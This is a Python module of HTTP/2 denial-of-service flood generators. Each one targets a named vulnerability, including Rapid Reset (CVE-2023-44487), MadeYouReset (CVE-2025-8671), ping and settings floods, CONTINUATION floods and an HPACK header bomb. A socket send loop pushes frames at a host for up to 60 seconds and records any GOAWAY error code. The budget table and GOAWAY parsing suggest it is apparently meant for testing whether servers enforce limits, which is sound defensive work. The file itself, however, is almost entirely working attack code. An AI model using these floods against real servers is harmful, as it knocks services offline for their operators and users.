"""HTTP/2 floods: frames that cost their sender next to nothing, as bytes."""

from __future__ import annotations

import itertools
import socket
import ssl
import time
from collections.abc import Callable, Iterator
from typing import NamedTuple

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    ExtensionFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8
PIECE = 16_384  # bytes sent at once
SECONDS = 60.0  # after which nothing more is sent
WAIT = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
type Flood = Callable[[str], Iterator[bytes]]


def head(encoder: Encoder, stream: int, host: str, *, ended: bool = True, path: str = "/") -> bytes:
    """HEADERS of a GET."""
    fields = {":method": "GET", ":scheme": "https", ":authority": host, ":path": path}
    flags = ["END_HEADERS", "END_STREAM"] if ended else ["END_HEADERS"]
    return HeadersFrame(stream, encoder.encode(list(fields.items())), flags=flags).serialize()


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def rapid_reset(host: str) -> Iterator[bytes]:
    """Streams that are reset as soon as they are opened (CVE-2023-44487)."""
    encoder = Encoder()
    for stream in _streams():
        yield head(encoder, stream, host) + RstStreamFrame(stream, CANCEL).serialize()


def made_resets(host: str) -> Iterator[bytes]:
    """Streams that we have to reset, for an increment of nothing (CVE-2025-8671)."""
    encoder = Encoder()
    for stream in _streams():
        window = WindowUpdateFrame(stream, 2**31 - 1).serialize()
        yield head(encoder, stream, host, ended=False) + window


def requests(host: str) -> Iterator[bytes]:
    """Requests without end, whatever is answered."""
    encoder = Encoder()
    for stream in _streams():
        yield head(encoder, stream, host)


def _open(frames: Callable[[int], Frame], host: str) -> Iterator[bytes]:
    yield head(Encoder(), 1, host, ended=False)
    for number in itertools.count():
        yield frames(number).serialize()


def pings(host: str) -> Iterator[bytes]:
    """Each has to be acknowledged (CVE-2019-9512)."""
    return _open(lambda number: PingFrame(0, number.to_bytes(8)), host)


def settings(host: str) -> Iterator[bytes]:
    """Each has to be acknowledged (CVE-2019-9515)."""
    return _open(lambda number: SettingsFrame(0, {3: number % 100}), host)


def priorities(host: str) -> Iterator[bytes]:
    """A tree that is turned over and over (CVE-2019-9513)."""
    return _open(lambda number: PriorityFrame(2 * number + 3, 0, number % 255), host)


def empty_data(host: str) -> Iterator[bytes]:
    """Data of no bytes (CVE-2019-9518)."""
    return _open(lambda _: DataFrame(1, b""), host)


def window_updates(host: str) -> Iterator[bytes]:
    """A window that grows byte by byte."""
    return _open(lambda _: WindowUpdateFrame(0, 1), host)


def unknown(host: str) -> Iterator[bytes]:
    """Frames of a type that nobody knows."""
    return _open(lambda _: ExtensionFrame(0xBE, 0, 0, b""), host)


def continuations(host: str) -> Iterator[bytes]:
    """A head that does not end (CVE-2024-27316)."""
    yield HeadersFrame(1, b"", flags=["END_STREAM"]).serialize()
    while True:
        yield ContinuationFrame(1, b"").serialize()


def header_bomb(host: str) -> Iterator[bytes]:
    """A field of 4,000 bytes, named again and again by one byte each (CVE-2016-6581)."""
    encoder = Encoder()
    field = [("x", "y" * 4000)]
    for stream in _streams():
        yield head(encoder, stream, host, ended=False)
        block = b"".join(encoder.encode(field) for _ in range(4000))
        yield HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize()


COUNTED: dict[Flood, str] = {
    rapid_reset: "resets",
    made_resets: "resets",
    pings: "frames",
    settings: "frames",
    priorities: "frames",
    empty_data: "frames",
    window_updates: "frames",
    unknown: "frames",
}
"""Each with the budget that it uses up."""


class Ending(NamedTuple):
    """How a connection ended: `code` of GOAWAY (None: there was none), whether the peer `closed`,
    and how many pieces were `sent`."""

    code: int | None
    closed: bool
    sent: int


def send(connection: socket.socket, flood: Iterator[bytes], most: int) -> Ending:
    """Send at most so many pieces of a flood, reading what comes, until the peer has closed."""
    waiting = PREFACE + SettingsFrame(0).serialize()
    received, sent, closed = bytearray(), 0, False
    deadline = time.monotonic() + SECONDS
    connection.settimeout(0.0)
    while not closed and time.monotonic() < deadline:
        while len(waiting) < PIECE and sent < most:
            waiting += next(flood)
            sent += 1
        try:
            waiting = waiting[_sent(connection, waiting[:PIECE]) :]
        except OSError:
            waiting, most = b"", 0  # what was sent before is still there to be read
        try:
            came = _received(connection)
            received += came or b""
            if came is None:
                time.sleep(0.002)
        except OSError:
            closed = True
    return Ending(code_of(received), closed, sent)


def _sent(connection: socket.socket, data: bytes) -> int:
    try:
        return connection.send(data) if data else 0
    except WAIT:
        return 0


def _received(connection: socket.socket) -> bytes | None:
    """What came; None: nothing yet. Raises OSError at the end."""
    try:
        data = connection.recv(65_536)
    except WAIT:
        return None
    if not data:
        raise ConnectionResetError
    return data


def code_of(received: bytes) -> int | None:
    """The error of the first GOAWAY in what was received."""
    view = memoryview(bytes(received))
    while len(view) >= 9:
        frame, length = Frame.parse_frame_header(view[:9])
        if len(view) < 9 + length:
            return None
        if isinstance(frame, GoAwayFrame):
            frame.parse_body(view[9 : 9 + length])
            return frame.error_code
        view = view[9 + length :]
    return None
